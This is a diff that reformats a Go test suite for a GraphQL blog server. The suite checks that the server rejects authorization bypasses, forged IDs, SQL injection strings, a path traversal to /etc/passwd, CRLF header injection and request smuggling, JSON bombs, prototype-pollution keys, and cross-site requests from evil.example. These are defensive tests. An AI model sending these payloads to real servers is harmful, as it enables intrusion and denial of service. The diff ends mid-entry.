@@ -35,7 +35,8 @@ func newAttackTest(t *testing.T) *attackTest {
 	f.testBlog = smallBlog(t, Options{Verifier: verifierOf(t, p), Logger: testkit.Logger()})
 	f.server = httptest.NewServer(f.testBlog)
 	t.Cleanup(f.server.Close)
-	a := f.send(attack{token: f.mallory, query: `mutation { createUser(input: {username: "mallory"}) { user { id } } }`})
+	a := f.send(attack{token: f.mallory,
+		query: `mutation { createUser(input: {username: "mallory"}) { user { id } } }`})
 	if a.code() != "" {
 		t.Fatal(a.body)
 	}
@@ -80,7 +81,8 @@ func (f *attackTest) send(a attack) testResponse {
 	if target == "" {
 		target = "/graphql"
 	}
-	r, err := http.NewRequestWithContext(f.t.Context(), method, f.server.URL+f.fill(target), strings.NewReader(f.filled(body)))
+	r, err := http.NewRequestWithContext(f.t.Context(), method, f.server.URL+f.fill(target),
+		strings.NewReader(f.filled(body)))
 	if err != nil {
 		f.t.Fatal(err)
 	}
@@ -146,7 +148,9 @@ func (f *attackTest) everything() string {
 	f.t.Helper()
 	const of = `id username posts { edges { node { id title content version updatedAt commentCount likeCount author { id username }
 		comments { edges { node { id content updatedAt author { username } } } } likes { edges { node { id user { username } } } } } } }`
-	a := f.send(attack{query: f.fill(`{ ada: user(id: "<user:ada>") { ` + of + ` } grace: user(id: "<user:grace>") { ` + of + ` } }`)})
+	a := f.send(
+		attack{query: f.fill(`{ ada: user(id: "<user:ada>") { ` + of + ` } grace: user(id: "<user:grace>") { ` + of +
+			` } }`)})
 	if a.code() != "" {
 		f.t.Fatal(a.body)
 	}
@@ -223,37 +227,54 @@ func TestAttacks_OtherUsersItems(t *testing.T) {
 	)
 	moths := f.postID(t, "moths")
 	attacks := map[string]attack{
-		"another's post: update":                 m(updatePost, id("<post:moths>"), "FORBIDDEN"),
-		"another's post: delete":                 m(deletePost, id("<post:moths>"), "FORBIDDEN"),
-		"another's comment: update":              m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
-		"another's comment: delete":              m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
-		"another's like: unlike":                 m(`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
-		"another's profile: take the name":       m(`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
-		"another's profile: name a user":         m(`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil, "GRAPHQL_VALIDATION_FAILED"),
-		"another's profile: in a variable":       m(`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`, map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
-		"another's profile: create it again":     m(`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
-		"another's name: create a post under it": m(`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`, map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}}, "BAD_USER_INPUT"),
-		"moderator flag in a variable":           m(`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`, map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
-		"several mutations, one on another's post": {token: f.mallory, code: "FORBIDDEN", data: `{"a":{"user":{"username":"mallory"}},"b":null}`,
+		"another's post: update":    m(updatePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's post: delete":    m(deletePost, id("<post:moths>"), "FORBIDDEN"),
+		"another's comment: update": m(updateComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's comment: delete": m(deleteComment, id("<comment:Poor thing.>"), "FORBIDDEN"),
+		"another's like: unlike": m(
+			`mutation($id: ID!) { unlikePost(input: {postId: $id}) { post { likeCount } } }`, id("<post:moths>"), ""),
+		"another's profile: take the name": m(
+			`mutation { updateUser(input: {username: "ADA"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's profile: name a user": m(
+			`mutation { updateUser(input: {id: "<user:ada>", username: "eve"}) { user { id } } }`, nil,
+			"GRAPHQL_VALIDATION_FAILED"),
+		"another's profile: in a variable": m(
+			`mutation($i: UpdateUserInput!) { updateUser(input: $i) { user { id } } }`,
+			map[string]any{"i": map[string]any{"username": "eve", "id": "<user:ada>"}}, "BAD_USER_INPUT"),
+		"another's profile: create it again": m(
+			`mutation { createUser(input: {username: "ada"}) { user { id } } }`, nil, "CONFLICT"),
+		"another's name: create a post under it": m(
+			`mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }`,
+			map[string]any{"i": map[string]any{"title": "t", "content": "c", "authorId": "<user:ada>"}},
+			"BAD_USER_INPUT"),
+		"moderator flag in a variable": m(
+			`mutation($id: ID!, $moderator: Boolean) { deletePost(input: {id: $id}) { deletedPostId } }`,
+			map[string]any{"id": "<post:moths>", "moderator": true}, "GRAPHQL_VALIDATION_FAILED"),
+		"several mutations, one on another's post": {token: f.mallory, code: "FORBIDDEN",
+			data:  `{"a":{"user":{"username":"mallory"}},"b":null}`,
 			query: `mutation { a: updateUser(input: {username: "mallory"}) { user { username } } b: deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`},
 		"mutation hidden in a fragment": {query: `mutation { ...F } fragment F on Mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`, code: "UNAUTHENTICATED"},
 
-		"forged id: malformed":                 m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
-		"forged id: an unknown post":           m(deletePost, id(postGlobalID("absent")), "NOT_FOUND"),
-		"forged id: a comment in another post": m(deleteComment, id(commentGlobalID(&blog.Comment{PostID: f.postID(t, "notes"), ID: moths})), "NOT_FOUND"),
-		"forged id: a post as its own comment": m(deleteComment, id(commentGlobalID(&blog.Comment{PostID: moths, ID: moths})), "NOT_FOUND"),
-		"forged id: a like as a comment":       m(deleteComment, id(commentGlobalID(&blog.Comment{PostID: moths, ID: "like-" + subjectID("ada")})), "NOT_FOUND"),
+		"forged id: malformed":       m(deletePost, id("bm9uc2Vuc2U"), "BAD_USER_INPUT"),
+		"forged id: an unknown post": m(deletePost, id(postGlobalID("absent")), "NOT_FOUND"),
+		"forged id: a comment in another post": m(deleteComment,
+			id(commentGlobalID(&blog.Comment{PostID: f.postID(t, "notes"), ID: moths})), "NOT_FOUND"),
+		"forged id: a post as its own comment": m(deleteComment,
+			id(commentGlobalID(&blog.Comment{PostID: moths, ID: moths})), "NOT_FOUND"),
+		"forged id: a like as a comment": m(deleteComment,
+			id(commentGlobalID(&blog.Comment{PostID: moths, ID: "like-" + subjectID("ada")})), "NOT_FOUND"),
 		"forged id: a comment as a post":       m(updatePost, id(postGlobalID(subjectID("ada"))), "NOT_FOUND"),
 		"forged id: the reservation of a name": m(node, id(userGlobalID("username:ada")), "BAD_USER_INPUT"),
-		"forged id: a path":                    m(node, id(postGlobalID("../users/"+subjectID("ada"))), "BAD_USER_INPUT"),
-		"forged id: SQL":                       m(node, id(postGlobalID("x' OR '1'='1")), "BAD_USER_INPUT"),
-		"forged id: NUL":                       m(node, id(postGlobalID("a\x00b")), "BAD_USER_INPUT"),
-		"forged id: a megabyte":                m(node, id(strings.Repeat("A", 1<<19)), "BAD_USER_INPUT"),
-		"foreign id: a user's as a post's":     m(deletePost, id("<user:ada>"), "BAD_USER_INPUT"),
-		"foreign id: a comment's as a post's":  m(likePost, id("<comment:Poor thing.>"), "BAD_USER_INPUT"),
-		"foreign id: a post's as a comment's":  m(updateComment, id("<post:moths>"), "BAD_USER_INPUT"),
-		"foreign id: a like's as a comment's":  m(deleteComment, id("<like:ada>"), "BAD_USER_INPUT"),
-		"foreign id: of another server":        m(deletePost, id("UG9zdDoxMjM="), "BAD_USER_INPUT"),
+		"forged id: a path": m(node, id(postGlobalID("../users/"+subjectID("ada"))),
+			"BAD_USER_INPUT"),
+		"forged id: SQL":                      m(node, id(postGlobalID("x' OR '1'='1")), "BAD_USER_INPUT"),
+		"forged id: NUL":                      m(node, id(postGlobalID("a\x00b")), "BAD_USER_INPUT"),
+		"forged id: a megabyte":               m(node, id(strings.Repeat("A", 1<<19)), "BAD_USER_INPUT"),
+		"foreign id: a user's as a post's":    m(deletePost, id("<user:ada>"), "BAD_USER_INPUT"),
+		"foreign id: a comment's as a post's": m(likePost, id("<comment:Poor thing.>"), "BAD_USER_INPUT"),
+		"foreign id: a post's as a comment's": m(updateComment, id("<post:moths>"), "BAD_USER_INPUT"),
+		"foreign id: a like's as a comment's": m(deleteComment, id("<like:ada>"), "BAD_USER_INPUT"),
+		"foreign id: of another server":       m(deletePost, id("UG9zdDoxMjM="), "BAD_USER_INPUT"),
 	}
 	cursors := map[string]string{
 		"of a user's posts": cursorOf(t, f.testBlog, `{ user(id: "<user:ada>") { posts { edges { cursor } } } }`),
@@ -263,8 +284,12 @@ func TestAttacks_OtherUsersItems(t *testing.T) {
 		"of SQL":            "' OR 1=1 --",
 	}
 	for name, cursor := range cursors {
-		attacks["a cursor "+name+" in the feed"] = m(`query($c: String) { feed(after: $c) { edges { cursor } } }`, map[string]any{"c": cursor}, "BAD_USER_INPUT")
-		attacks["a cursor "+name+" in another post's likes"] = m(`query($c: String) { post(id: "<post:engines>") { likes(after: $c) { edges { cursor } } } }`, map[string]any{"c": cursor}, "BAD_USER_INPUT")
+		attacks["a cursor "+name+" in the feed"] = m(`query($c: String) { feed(after: $c) { edges { cursor } } }`,
+			map[string]any{"c": cursor}, "BAD_USER_INPUT")
+		attacks["a cursor "+name+
+			" in another post's likes"] = m(
+			`query($c: String) { post(id: "<post:engines>") { likes(after: $c) { edges { cursor } } } }`,
+			map[string]any{"c": cursor}, "BAD_USER_INPUT")
 	}
 	f.run(t, attacks)
 }
@@ -276,92 +301,152 @@ func TestAttacks_MalformedRequests(t *testing.T) {
 	const nodes = `{"query":"query($ids: [ID!]!) { nodes(ids: $ids) { id } }","variables":`
 	plain := `{"query":"{ __typename }"}`
 	from := func(origin, site, contentType string) attack {
-		return attack{token: f.mallory, body: mutation, header: map[string]string{"Origin": origin, "Sec-Fetch-Site": site, "Content-Type": contentType}}
+		return attack{token: f.mallory, body: mutation,
+			header: map[string]string{"Origin": origin, "Sec-Fetch-Site": site, "Content-Type": contentType}}
 	}
 	crossSite := func(a attack, code string) attack { a.code = code; return a }
 	raw := func(header string) string {
-		return fmt.Sprintf("POST /graphql HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: %d\nConnection: close\n%s\n\n%s\n", len(plain), header, plain)
+		return fmt.Sprintf(
+			"POST /graphql HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: "+
+				"%d\nConnection: close\n%s\n\n%s\n", len(plain), header, plain)
 	}
 	deep := func(n int, open, end string) string { return strings.Repeat(open, n) + strings.Repeat(end, n) }
 	f.run(t, map[string]attack{
-		"cross-site POST":                            crossSite(from("https://evil.example", "cross-site", "application/json"), "FORBIDDEN"),
-		"cross-site POST, by Origin alone":           crossSite(from("https://evil.example", "", "application/json"), "FORBIDDEN"),
-		"cross-site POST, null origin":               crossSite(from("null", "cross-site", "application/json"), "FORBIDDEN"),
-		"same-site POST of another host":             crossSite(from("https://other.localhost", "same-site", "application/json"), "FORBIDDEN"),
-		"a form's POST as text":                      crossSite(from(f.server.URL, "same-origin", "text/plain"), "BAD_USER_INPUT"),
-		"a form's POST":                              crossSite(from(f.server.URL, "same-origin", "application/x-www-form-urlencoded"), "BAD_USER_INPUT"),
-		"a form's POST with a file":                  crossSite(from(f.server.URL, "same-origin", "multipart/form-data; boundary=x"), "BAD_USER_INPUT"),
-		"a mutation by GET":                          {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`), code: "BAD_USER_INPUT"},
-		"a mutation by a link to an image":           {method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"Sec-Fetch-Site": "cross-site", "Accept": "image/*"}, code: "BAD_USER_INPUT"},
-		"a query by an image in a post":              {method: "GET", target: "/graphql?query={__typename}", header: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Dest": "image"}, code: "FORBIDDEN"},
-		"a query by a frame of another page":         {method: "GET", target: "/graphql?query={__typename}", header: map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"}, code: "FORBIDDEN"},
-		"method override by a header":                {token: f.mallory, method: "GET", target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`), header: map[string]string{"X-HTTP-Method-Override": "POST"}, code: "BAD_USER_INPUT"},
-		"cross-site WebSocket":                       {method: "GET", header: upgrade("https://evil.example"), status: http.StatusForbidden},
-		"cross-site WebSocket, null origin":          {method: "GET", header: upgrade("null"), status: http.StatusForbidden},
-		"cross-site WebSocket, own origin as prefix": {method: "GET", header: upgrade(f.server.URL + ".evil.example"), status: http.StatusForbidden},
-		"CORS preflight":                             {method: "OPTIONS", header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}, status: http.StatusMethodNotAllowed},
-		"header injection by the request id":         {raw: raw("X-Request-Id: a%0d%0aX-Injected: 1"), status: 200},
-		"header injection by a line end":             {raw: raw("X-Request-Id: a\nX-Injected: 1"), status: 200},
-		"header injection by a bare CR":              {raw: raw("X-Request-Id: a\rX-Injected: 1"), status: 400},
-		"header injection by NUL":                    {raw: raw("X-Request-Id: a\x00b"), status: 400},
-		"header injection by folding":                {raw: raw("X-Request-Id: a\n X-Injected: 1"), status: 200},
-		"header injection by the token":              {raw: raw("Authorization: Bearer a%0d%0aX-Injected: 1"), status: 200},
-		"header injection by a name":                 {raw: raw("X-Request Id: a"), status: 400},
-		"two lengths":                                {raw: raw("Content-Length: 5"), status: 400},
-		"Content-Length and Transfer-Encoding":       {raw: raw("Transfer-Encoding: chunked"), code: "BAD_USER_INPUT"},
-		"unknown Transfer-Encoding":                  {raw: raw("Transfer-Encoding: chunked, identity"), status: http.StatusNotImplemented},
-		"two hosts":                                  {raw: raw("Host: evil.example"), status: 400},
-		"a huge header":                              {raw: raw("X-A: " + strings.Repeat("a", 1<<21)), status: 431},
-		"JSON bomb: arrays":                          {body: nodes + deep(100_000, "[", "]") + "}", code: "BAD_USER_INPUT"},
-		"JSON bomb: objects":                         {body: nodes + `{"ids":` + deep(50_000, `{"a":`, "}") + "}}", code: "BAD_USER_INPUT"},
-		"JSON bomb: lists as an id":                  {body: nodes + `{"ids":` + deep(5_000, "[", "]") + "}}", code: "BAD_USER_INPUT"},
-		"JSON bomb: in extensions":                   {body: `{"query":"{ __typename }","extensions":` + deep(100_000, `{"a":[`, "]}") + "}", code: "BAD_USER_INPUT"},
-		"JSON bomb: never closed":                    {body: strings.Repeat("[", 500_000), code: "BAD_USER_INPUT"},
-		"JSON bomb: a huge number":                   {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":1e999999999}}`, code: "BAD_USER_INPUT"},
-		"JSON bomb: a number of 500,000 digits":      {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":` + strings.Repeat("9", 500_000) + `}}`, code: "BAD_USER_INPUT"},
-		"JSON bomb: 100,000 names":                   {body: `{"query":"{ __typename }","variables":{"a":1` + strings.Repeat(`,"a":1`, 100_000) + `}}`, data: `{"__typename":"Query"}`},
-		"JSON bomb: 10 MB":                           {body: `{"query":"` + strings.Repeat(" ", 10<<20) + `"}`, code: "BAD_USER_INPUT"},
-		"JSON: two values":                           {body: plain + plain, code: "BAD_USER_INPUT"},
-		"JSON: a list of operations":                 {body: "[" + plain + "," + plain + "]", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in a variable":                {token: f.mallory, body: "{\"query\":\"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }\",\"variables\":{\"t\":\"a\xffb\"}}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the document":              {token: f.mallory, body: "{\"query\":\"mutation { createPost(input: {title: \\\"a\xc3\\\", content: \\\"c\\\"}) { post { id } } }\"}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in a name":                    {body: "{\"query\":\"{ __typename }\",\"\xff\":1}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8: overlong":                    {body: "{\"query\":\"{ userByUsername(username: \\\"\xc0\xaf\\\") { id } }\"}", code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the URL":                   {method: "GET", target: `/graphql?query={userByUsername(username:"%ff"){id}}`, code: "BAD_USER_INPUT"},
-		"invalid UTF-8 in the URL's variables":       {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"%ff"}`, code: "BAD_USER_INPUT"},
-		"an unpaired surrogate in a variable":        {token: f.mallory, body: `{"query":"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }","variables":{"t":"a\ud800b"}}`, code: "BAD_USER_INPUT"},
-		"an unpaired surrogate in the document":      {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"a\\ud800b\", content: \"c\"}) { post { id } } }"}`, code: "GRAPHQL_PARSE_FAILED"},
-		"an unpaired surrogate in the URL":           {method: "GET", target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"\udfff"}`, code: "BAD_USER_INPUT"},
-		"another character set":                      {body: plain, header: map[string]string{"Content-Type": "application/json; charset=utf-7"}, code: "BAD_USER_INPUT"},
-		"UTF-16":                                     {body: "\xff\xfe{\x00}\x00", code: "BAD_USER_INPUT"},
-		"NUL in the body":                            {body: "{\"query\":\"{ __typename\x00 }\"}", code: "BAD_USER_INPUT"},
-		"NUL in the document":                        {body: `{"query":"{ __typename\u0000 }"}`, code: "GRAPHQL_PARSE_FAILED"},
-		"NUL after the body":                         {body: plain + "\x00", code: "BAD_USER_INPUT"},
-		"NUL in the URL":                             {method: "GET", target: "/graphql?query={__typename}%00", code: "GRAPHQL_PARSE_FAILED"},
-		"NUL in the path":                            {method: "GET", target: "/graphql%00", status: 404},
-		"path traversal":                             {method: "GET", target: "/graphql/..%2f..%2fetc%2fpasswd", status: 404},
-		"prototype-like: a key of the body":          {body: `{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: a variable":                 {body: `{"query":"{ __typename }","variables":{"__proto__":{"moderator":true}}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: in an input":                {token: f.mallory, body: `{"query":"mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }","variables":{"i":{"title":"t","content":"c","__proto__":{"authorId":"x"}}}}`, code: "BAD_USER_INPUT"},
-		"prototype-like: a type of input":            {token: f.mallory, body: `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\", constructor: 1}) { post { id } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: an extension":               {body: `{"query":"{ __typename }","extensions":{"__proto__":{"persistedQuery":1},"persistedQuery":null}}`, data: `{"__typename":"Query"}`},
-		"prototype-like: a persisted operation":      {body: `{"documentId":"__proto__"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
-		"prototype-like: an operation":               {body: `{"query":"query a { __typename }","operationName":"__proto__"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: a field":                    {body: `{"query":"{ __proto__ }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"prototype-like: an id":                      {body: `{"query":"{ node(id: \"__proto__\") { id } }"}`, code: "BAD_USER_INPUT"},
-		"prototype-like: a user":                     {body: `{"query":"{ userByUsername(username: \"__proto__\") { id } }"}`, data: `{"userByUsername":null}`},
-		"a token in the URL":                         {method: "POST", target: "/graphql?access_token=" + f.mallory, body: mutation, code: "UNAUTHENTICATED"},
-		"a token in a cookie":                        {body: mutation, header: map[string]string{"Cookie": "Authorization=Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
-		"a token in Proxy-Authorization":             {body: mutation, header: map[string]string{"Proxy-Authorization": "Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
-		"an identity in proxy headers":               {body: mutation, header: map[string]string{"X-Forwarded-User": "ada", "X-Remote-User": "ada"}, code: "UNAUTHENTICATED"},
-		"introspection":                              {body: `{"query":"{ __schema { types { name } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
-		"the playground outside development":         {method: "GET", target: "/", status: 404},
+		"cross-site POST": crossSite(from("https://evil.example", "cross-site",
+			"application/json"), "FORBIDDEN"),
+		"cross-site POST, by Origin alone": crossSite(from("https://evil.example", "", "application/json"),
+			"FORBIDDEN"),
+		"cross-site POST, null origin": crossSite(from("null", "cross-site", "application/json"),
+			"FORBIDDEN"),
+		"same-site POST of another host": crossSite(from("https://other.localhost", "same-site",
+			"application/json"), "FORBIDDEN"),
+		"a form's POST as text": crossSite(from(f.server.URL, "same-origin", "text/plain"),
+			"BAD_USER_INPUT"),
+		"a form's POST": crossSite(from(f.server.URL, "same-origin",
+			"application/x-www-form-urlencoded"), "BAD_USER_INPUT"),
+		"a form's POST with a file": crossSite(from(f.server.URL, "same-origin",
+			"multipart/form-data; boundary=x"), "BAD_USER_INPUT"),
+		"a mutation by GET": {token: f.mallory, method: "GET",
+			target: "/graphql?query=" +
+				url.QueryEscape(`mutation { deletePost(input: {id: "<post:moths>"}) { deletedPostId } }`),
+			code: "BAD_USER_INPUT"},
+		"a mutation by a link to an image": {method: "GET",
+			target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`),
+			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Accept": "image/*"}, code: "BAD_USER_INPUT"},
+		"a query by an image in a post": {method: "GET", target: "/graphql?query={__typename}",
+			header: map[string]string{"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Dest": "image"}, code: "FORBIDDEN"},
+		"a query by a frame of another page": {method: "GET", target: "/graphql?query={__typename}",
+			header: map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "iframe"}, code: "FORBIDDEN"},
+		"method override by a header": {token: f.mallory, method: "GET",
+			target: "/graphql?query=" + url.QueryEscape(`mutation { __typename }`),
+			header: map[string]string{"X-HTTP-Method-Override": "POST"}, code: "BAD_USER_INPUT"},
+		"cross-site WebSocket": {method: "GET", header: upgrade("https://evil.example"),
+			status: http.StatusForbidden},
+		"cross-site WebSocket, null origin": {method: "GET", header: upgrade("null"),
+			status: http.StatusForbidden},
+		"cross-site WebSocket, own origin as prefix": {method: "GET", header: upgrade(f.server.URL + ".evil.example"),
+			status: http.StatusForbidden},
+		"CORS preflight": {method: "OPTIONS",
+			header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
+				"Access-Control-Request-Headers": "authorization"}, status: http.StatusMethodNotAllowed},
+		"header injection by the request id":   {raw: raw("X-Request-Id: a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a line end":       {raw: raw("X-Request-Id: a\nX-Injected: 1"), status: 200},
+		"header injection by a bare CR":        {raw: raw("X-Request-Id: a\rX-Injected: 1"), status: 400},
+		"header injection by NUL":              {raw: raw("X-Request-Id: a\x00b"), status: 400},
+		"header injection by folding":          {raw: raw("X-Request-Id: a\n X-Injected: 1"), status: 200},
+		"header injection by the token":        {raw: raw("Authorization: Bearer a%0d%0aX-Injected: 1"), status: 200},
+		"header injection by a name":           {raw: raw("X-Request Id: a"), status: 400},
+		"two lengths":                          {raw: raw("Content-Length: 5"), status: 400},
+		"Content-Length and Transfer-Encoding": {raw: raw("Transfer-Encoding: chunked"), code: "BAD_USER_INPUT"},
+		"unknown Transfer-Encoding": {raw: raw("Transfer-Encoding: chunked, identity"),
+			status: http.StatusNotImplemented},
+		"two hosts":         {raw: raw("Host: evil.example"), status: 400},
+		"a huge header":     {raw: raw("X-A: " + strings.Repeat("a", 1<<21)), status: 431},
+		"JSON bomb: arrays": {body: nodes + deep(100_000, "[", "]") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: objects": {body: nodes + `{"ids":` + deep(50_000, `{"a":`, "}") + "}}",
+			code: "BAD_USER_INPUT"},
+		"JSON bomb: lists as an id": {body: nodes + `{"ids":` + deep(5_000, "[", "]") + "}}",
+			code: "BAD_USER_INPUT"},
+		"JSON bomb: in extensions": {body: `{"query":"{ __typename }","extensions":` +
+			deep(100_000, `{"a":[`, "]}") + "}", code: "BAD_USER_INPUT"},
+		"JSON bomb: never closed":               {body: strings.Repeat("[", 500_000), code: "BAD_USER_INPUT"},
+		"JSON bomb: a huge number":              {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":1e999999999}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: a number of 500,000 digits": {body: `{"query":"query($n: Int) { feed(first: $n) { edges { cursor } } }","variables":{"n":` + strings.Repeat("9", 500_000) + `}}`, code: "BAD_USER_INPUT"},
+		"JSON bomb: 100,000 names": {body: `{"query":"{ __typename }","variables":{"a":1` +
+			strings.Repeat(`,"a":1`, 100_000) + `}}`, data: `{"__typename":"Query"}`},
+		"JSON bomb: 10 MB": {body: `{"query":"` + strings.Repeat(" ", 10<<20) + `"}`,
+			code: "BAD_USER_INPUT"},
+		"JSON: two values":           {body: plain + plain, code: "BAD_USER_INPUT"},
+		"JSON: a list of operations": {body: "[" + plain + "," + plain + "]", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a variable": {token: f.mallory,
+			body: "{\"query\":\"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } " +
+				"}\",\"variables\":{\"t\":\"a\xffb\"}}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the document": {token: f.mallory,
+			body: "{\"query\":\"mutation { createPost(input: {title: \\\"a\xc3\\\", content: \\\"c\\\"}) { post { id " +
+				"} } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in a name": {body: "{\"query\":\"{ __typename }\",\"\xff\":1}",
+			code: "BAD_USER_INPUT"},
+		"invalid UTF-8: overlong": {body: "{\"query\":\"{ userByUsername(username: \\\"\xc0\xaf\\\") { " +
+			"id } }\"}", code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL": {method: "GET",
+			target: `/graphql?query={userByUsername(username:"%ff"){id}}`, code: "BAD_USER_INPUT"},
+		"invalid UTF-8 in the URL's variables": {method: "GET",
+			target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"%ff"}`,
+			code:   "BAD_USER_INPUT"},
+		"an unpaired surrogate in a variable": {token: f.mallory,
+			body: `{"query":"mutation($t: String!) { createPost(input: {title: $t, content: $t}) { post { id } } }","variables":{"t":"a\ud800b"}}`, code: "BAD_USER_INPUT"},
+		"an unpaired surrogate in the document": {token: f.mallory,
+			body: `{"query":"mutation { createPost(input: {title: \"a\\ud800b\", content: \"c\"}) { post { id } } }"}`,
+			code: "GRAPHQL_PARSE_FAILED"},
+		"an unpaired surrogate in the URL": {method: "GET",
+			target: `/graphql?query=query($u:String!){userByUsername(username:$u){id}}&variables={"u":"\udfff"}`,
+			code:   "BAD_USER_INPUT"},
+		"another character set": {body: plain,
+			header: map[string]string{"Content-Type": "application/json; charset=utf-7"}, code: "BAD_USER_INPUT"},
+		"UTF-16":          {body: "\xff\xfe{\x00}\x00", code: "BAD_USER_INPUT"},
+		"NUL in the body": {body: "{\"query\":\"{ __typename\x00 }\"}", code: "BAD_USER_INPUT"},
+		"NUL in the document": {body: `{"query":"{ __typename\u0000 }"}`,
+			code: "GRAPHQL_PARSE_FAILED"},
+		"NUL after the body": {body: plain + "\x00", code: "BAD_USER_INPUT"},
+		"NUL in the URL": {method: "GET", target: "/graphql?query={__typename}%00",
+			code: "GRAPHQL_PARSE_FAILED"},
+		"NUL in the path": {method: "GET", target: "/graphql%00", status: 404},
+		"path traversal": {method: "GET", target: "/graphql/..%2f..%2fetc%2fpasswd",
+			status: 404},
+		"prototype-like: a key of the body": {body: `{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a variable":        {body: `{"query":"{ __typename }","variables":{"__proto__":{"moderator":true}}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: in an input": {token: f.mallory,
+			body: `{"query":"mutation($i: CreatePostInput!) { createPost(input: $i) { post { id } } }","variables":{"i":{"title":"t","content":"c","__proto__":{"authorId":"x"}}}}`, code: "BAD_USER_INPUT"},
+		"prototype-like: a type of input": {token: f.mallory,
+			body: `{"query":"mutation { createPost(input: {title: \"t\", content: \"c\", constructor: 1}) { post { id } } }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an extension": {body: `{"query":"{ __typename }","extensions":{"__proto__":{"persistedQuery":1},"persistedQuery":null}}`, data: `{"__typename":"Query"}`},
+		"prototype-like: a persisted operation": {body: `{"documentId":"__proto__"}`,
+			code: "PERSISTED_QUERY_NOT_FOUND"},
+		"prototype-like: an operation": {body: `{"query":"query a { __typename }","operationName":"__proto__"}`,
+			code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: a field": {body: `{"query":"{ __proto__ }"}`, code: "GRAPHQL_VALIDATION_FAILED"},
+		"prototype-like: an id": {body: `{"query":"{ node(id: \"__proto__\") { id } }"}`,
+			code: "BAD_USER_INPUT"},
+		"prototype-like: a user": {body: `{"query":"{ userByUsername(username: \"__proto__\") { id } }"}`,
+			data: `{"userByUsername":null}`},
+		"a token in the URL": {method: "POST", target: "/graphql?access_token=" + f.mallory,
+			body: mutation, code: "UNAUTHENTICATED"},
+		"a token in a cookie": {body: mutation,
+			header: map[string]string{"Cookie": "Authorization=Bearer " + f.mallory}, code: "UNAUTHENTICATED"},
+		"a token in Proxy-Authorization": {body: mutation,
